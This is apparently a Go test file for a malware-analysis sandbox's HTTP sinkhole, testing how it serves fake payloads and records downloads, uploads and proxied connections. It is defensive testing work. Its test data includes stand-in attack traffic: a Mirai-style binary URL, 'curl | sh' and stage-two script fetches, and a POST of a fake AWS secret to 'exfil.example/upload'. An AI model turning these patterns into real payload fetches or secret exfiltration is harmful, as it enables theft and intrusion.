package service

import (
	"bytes"
	"context"
	"io"
	"net/http"
	"net/netip"
	"net/url"
	"strings"
	"testing"
	"time"
)

// httpClient is a net/http client whose every dial lands in the sinkhole.
func httpClient(sn *sandboxNet, proxy string) *http.Client {
	tr := &http.Transport{DialContext: sn.DialContext, DisableKeepAlives: true, ExpectContinueTimeout: time.Hour}
	if proxy != "" {
		tr.Proxy = http.ProxyURL(&url.URL{Scheme: "http", Host: proxy})
	}
	return &http.Client{Transport: tr, Timeout: 30 * time.Second}
}

func TestHTTPDownloads(t *testing.T) {
	cfg := testConfig()
	s := newService(t, cfg)
	elf, script, python := MinimalELF(), []byte(defaultScript), []byte(defaultPython)
	tests := []struct {
		name, url, ua string
		body          []byte
		ctype         string
	}{
		{"binary without extension", "http://dl.example/x", "Wget/1.21.3", elf, "application/octet-stream"},
		{"binary with extension", "http://dl.example/files/payload.bin", "", elf, "application/octet-stream"},
		{"mirai-style name", "http://1.2.3.4/bins/mirai.x86", "", elf, "application/octet-stream"},
		{"shell script", "http://dl.example/install.sh?v=2", "curl/7.88.1", script, "text/x-shellscript"},
		{"python script", "http://dl.example/stage2.py", "python-requests/2.31", python, "text/x-python"},
		{"curl | sh of a directory", "http://get.example/", "curl/7.88.1", script, "text/x-shellscript"},
		{"browser page", "http://www.example/", "Mozilla/5.0 (X11; Linux x86_64)", []byte(pageBody), "text/html"},
		{"php page", "http://www.example/index.php", "curl/7.88.1", []byte(pageBody), "text/html"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			sn := newSandboxNet(t, s)
			req, err := http.NewRequest("GET", tt.url, nil)
			must(t, err)
			req.Header.Set("User-Agent", tt.ua)
			resp, err := httpClient(sn, "").Do(req)
			must(t, err)
			got, err := io.ReadAll(resp.Body)
			resp.Body.Close()
			must(t, err)
			sn.wait()
			if resp.StatusCode != 200 || !bytes.Equal(got, tt.body) || resp.Header.Get("Content-Type") != tt.ctype {
				t.Errorf("got %d %q %q, want 200 %q %q", resp.StatusCode, resp.Header.Get("Content-Type"), got, tt.ctype, tt.body)
			}
			c := lastConn(t, s)
			u, _ := url.Parse(tt.url)
			if c.App != AppHTTP || c.HTTP == nil || c.HTTP.Method != "GET" || c.HTTP.Host != u.Host || c.HTTP.Path != u.RequestURI() || c.HTTP.UserAgent != tt.ua {
				t.Errorf("recorded %+v %+v", c, c.HTTP)
			}
			if c.DstPort != 80 || c.SrcPort == 0 || c.BytesIn == 0 || c.BytesOut < int64(len(tt.body)) || !bytes.HasPrefix(c.FirstData, []byte("GET ")) {
				t.Errorf("connection recorded as %+v", c)
			}
			if wantHost := u.Hostname(); wantHost == "1.2.3.4" {
				if c.Host != "" || c.DstIP != "1.2.3.4" {
					t.Errorf("literal address: Host %q DstIP %q", c.Host, c.DstIP)
				}
			} else if c.Host != wantHost || s.LookupHost(c.DstIP) != wantHost {
				t.Errorf("Host %q (dst %s), want %q", c.Host, c.DstIP, wantHost)
			}
		})
	}
}

func TestHTTPHead(t *testing.T) {
	s := newService(t, testConfig())
	sn := newSandboxNet(t, s)
	resp, err := httpClient(sn, "").Head("http://dl.example/x")
	must(t, err)
	resp.Body.Close()
	sn.wait()
	if resp.ContentLength != int64(len(MinimalELF())) {
		t.Errorf("HEAD Content-Length %d", resp.ContentLength)
	}
	if c := lastConn(t, s); c.HTTP == nil || c.HTTP.Method != "HEAD" || c.BytesOut > 512 {
		t.Errorf("HEAD recorded as %+v", c)
	}
}

func TestHTTPUploads(t *testing.T) {
	cfg := testConfig()
	cfg.CaptureBytes = 1024
	s := newService(t, cfg)
	secret := bytes.Repeat([]byte("AWS_SECRET_ACCESS_KEY=abc123\n"), 1000)
	tests := []struct {
		name   string
		body   func() io.Reader
		expect bool
	}{
		{"sized", func() io.Reader { return bytes.NewReader(secret) }, false},
		{"chunked", func() io.Reader { return io.MultiReader(bytes.NewReader(secret)) }, false},
		{"expect 100-continue", func() io.Reader { return bytes.NewReader(secret) }, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			sn := newSandboxNet(t, s)
			req, err := http.NewRequest("POST", "http://exfil.example/upload", tt.body())
			must(t, err)
			if tt.expect {
				req.Header.Set("Expect", "100-continue")
			}
			resp, err := httpClient(sn, "").Do(req)
			must(t, err)
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			sn.wait()
			c := lastConn(t, s)
			if c.HTTP == nil || c.HTTP.Method != "POST" || c.HTTP.BodySize != int64(len(secret)) || !bytes.Equal(c.HTTP.BodyPrefix, secret[:1024]) {
				t.Fatalf("recorded %+v", c.HTTP)
			}
			if len(c.FirstData) != 1024 || c.BytesIn < int64(len(secret)) {
				t.Errorf("capture %d bytes, in %d", len(c.FirstData), c.BytesIn)
			}
		})
	}
}

func TestHTTPProxy(t *testing.T) {
	s := newService(t, testConfig())
	t.Run("absolute URI", func(t *testing.T) {
		sn := newSandboxNet(t, s)
		resp, err := httpClient(sn, "proxy.example:3128").Get("http://dl.example/x")
		must(t, err)
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		sn.wait()
		if !bytes.Equal(body, MinimalELF()) {
			t.Errorf("proxied download got %q", body)
		}
		c := lastConn(t, s)
		if c.App != AppHTTPProxy || c.DstPort != 3128 || c.Host != "proxy.example" || c.HTTP.Host != "dl.example" || c.HTTP.Path != "/x" {
			t.Errorf("recorded %+v %+v", c, c.HTTP)
		}
	})
	t.Run("CONNECT then TLS", func(t *testing.T) {
		sn := newSandboxNet(t, s)
		resp, err := httpClient(sn, "proxy.example:3128").Get("https://secure.example/login")
		if err == nil {
			resp.Body.Close()
			t.Fatal("a TLS handshake through the sinkhole succeeded")
		}
		sn.wait()
		c := lastConn(t, s)
		if c.App != AppHTTPProxy || c.HTTP == nil || c.HTTP.Method != "CONNECT" || c.HTTP.Host != "secure.example:443" || c.HTTP.Path != "" {
			t.Fatalf("recorded %+v %+v", c, c.HTTP)
		}
		if c.TLS == nil || c.TLS.SNI != "secure.example" {
			t.Errorf("tunnelled ClientHello recorded as %+v", c.TLS)
		}
	})
}

func TestHTTPBroken(t *testing.T) {
	s := newService(t, testConfig())
	sn := newSandboxNet(t, s)
	c := sn.dial("203.0.113.9:80")
	io.WriteString(c, "GET /\x00bad HTTP/9.9\r\n\r\n")
	io.Copy(io.Discard, c)
	c.Close()
	sn.wait()
	if got := lastConn(t, s); got.App != AppUnknown || got.HTTP != nil || !strings.HasPrefix(string(got.FirstData), "GET /") {
		t.Errorf("malformed request recorded as %+v", got)
	}
}

func TestPayload(t *testing.T) {
	s := newService(t, Config{ELF: []byte("elf"), Script: []byte("sh"), Python: []byte("py")})
	tests := []struct{ path, ua, want string }{
		{"/x", "", "elf"},
		{"/a/b/c.ELF", "Mozilla/5.0", "elf"},
		{"/x.arm7", "", "elf"},
		{"/run.sh", "Mozilla/5.0", "sh"},
		{"/a.py", "", "py"},
		{"/", "curl/8.0", "sh"},
		{"", "Wget/1.21", "sh"},
		{"/dir/", "", "sh"},
		{"/", "Mozilla/5.0", pageBody},
		{"/style.css", "curl/8.0", pageBody},
		{"/archive.tar.gz", "curl/8.0", pageBody},
	}
	for _, tt := range tests {
		if got, _ := s.payload(tt.path, tt.ua); string(got) != tt.want {
			t.Errorf("payload(%q, %q) = %q, want %q", tt.path, tt.ua, got, tt.want)
		}
	}
}

func BenchmarkHandleTCPHTTP(b *testing.B) {
	s := newService(b, Config{MaxConns: 1})
	req := []byte("GET /x HTTP/1.1\r\nHost: dl.example\r\nUser-Agent: Wget/1.21\r\n\r\n")
	orig := netip.MustParseAddrPort("10.13.128.1:80")
	b.ReportAllocs()
	for b.Loop() {
		client, server := tcpPair(b)
		done := make(chan struct{})
		go func() {
			s.HandleTCP(context.Background(), server, orig)
			close(done)
		}()
		client.Write(req)
		if n, _ := io.Copy(io.Discard, client); n < int64(len(MinimalELF())) {
			b.Fatalf("response of %d bytes", n)
		}
		client.Close()
		<-done
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "requests/s")
}
